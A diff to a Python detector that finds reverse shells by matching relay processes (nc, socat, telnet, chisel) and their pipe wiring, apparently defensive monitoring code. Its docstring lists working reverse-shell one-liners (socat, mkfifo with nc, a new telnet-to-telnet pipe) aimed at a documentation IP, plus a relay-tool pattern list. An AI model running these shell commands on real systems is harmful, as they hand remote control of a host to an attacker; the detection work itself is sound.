@@ -4,6 +4,7 @@
     an interpreter whose both are one   python -c '...dup2...; pty.spawn("sh")'
     the parent is a relay               socat TCP:203.0.113.9:4444 EXEC:sh,pty
     pipes lead to a relay and back      mkfifo f; sh -i <f 2>&1 | nc 203.0.113.9 4444 >f
+    ... or from one and to another      telnet 203.0.113.9 4444 | sh | telnet 203.0.113.9 4445
 
 What inetd or a socket unit starts has a connection there too, and is told apart by two things together: the
 connection came in by a port on which somebody listens, and the parent is such a server. The shells of sshd
@@ -21,11 +22,14 @@ SHELLS = frozenset(
     {"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "csh", "tcsh", "fish", "busybox", "rbash"}
 )
 _INTERPRETER = re.compile(r"(?:python|perl|ruby|php|lua|node|gawk|mawk|tclsh|expect)[\d.]*$")
-RELAYS = frozenset(
-    {"nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat", "telnet", "openssl", "chisel", "frpc"}
+# Distributions name them after their makers or versions (socat1, telnet.netkit).
+_RELAY = re.compile(
+    r"(?:nc|ncat|netcat|nc\.openbsd|nc\.traditional|socat\d?|(?:inetutils-)?telnet(?:\.netkit)?|openssl|chisel|frpc)$"
 )
+_APPLETS = frozenset({"nc", "netcat", "telnet"})
 _PIPES = ("pipe:[", "/")
 _NO_PIPES = ("/dev/",)
+_OPEN_TO_ALL = "/dev/shm/"  # noqa: S108 - looked for, not used
 
 
 class Shell(NamedTuple):
@@ -46,7 +50,7 @@ def remote_shells(table: Table, servers: frozenset[str]) -> Iterator[Shell]:
     relays = {
         process.pid: connection
         for process in table.processes.values()
-        if process.base in RELAYS and (connection := _talks(table, process))
+        if _is_relay(table, process) and (connection := _talks(table, process))
     }
     for process in table.processes.values():
         is_shell = process.base in SHELLS
@@ -90,20 +94,28 @@ def _talks(table: Table, relay: Process) -> Connection | None:
     return None
 
 
+def _is_relay(table: Table, process: Process) -> bool:
+    if process.base != "busybox":
+        return _RELAY.match(process.base) is not None
+    words = table.arguments(process.pid).split(" ", 2)[:2]
+    return not _APPLETS.isdisjoint({process.name, *(word.rpartition("/")[2] for word in words)})
+
+
 def _piped(table: Table, relays: dict[int, Connection], stdin: str, stdout: str) -> int | None:
-    """Return the relay that a shell's output goes to and whose own output comes back by a pipe."""
+    """Return the relay that a shell's output goes to, where its input comes from it, or from another, too."""
     if not _is_pipe(stdin) or not stdout.startswith("pipe:["):
         return None
-    for pid in relays:
-        relay_in, relay_out, _ = table.stdio(pid)
-        if relay_in == stdout and _is_pipe(relay_out):
+    ends = {pid: table.stdio(pid) for pid in relays}
+    fed = any(relay_out == stdin for _, relay_out, _ in ends.values())
+    for pid, (relay_in, relay_out, _) in ends.items():
+        if relay_in == stdout and (fed or _is_pipe(relay_out)):
             return pid
     return None
 
 
 def _is_pipe(end: str) -> bool:
     """Say whether an end is a pipe, or a name that may be one; no terminal, no /dev/null."""
-    return end.startswith(_PIPES) and not end.startswith(_NO_PIPES)
+    return end.startswith(_PIPES) and (end.startswith(_OPEN_TO_ALL) or not end.startswith(_NO_PIPES))
 
 
 def _is_elsewhere(connection: Connection) -> bool:
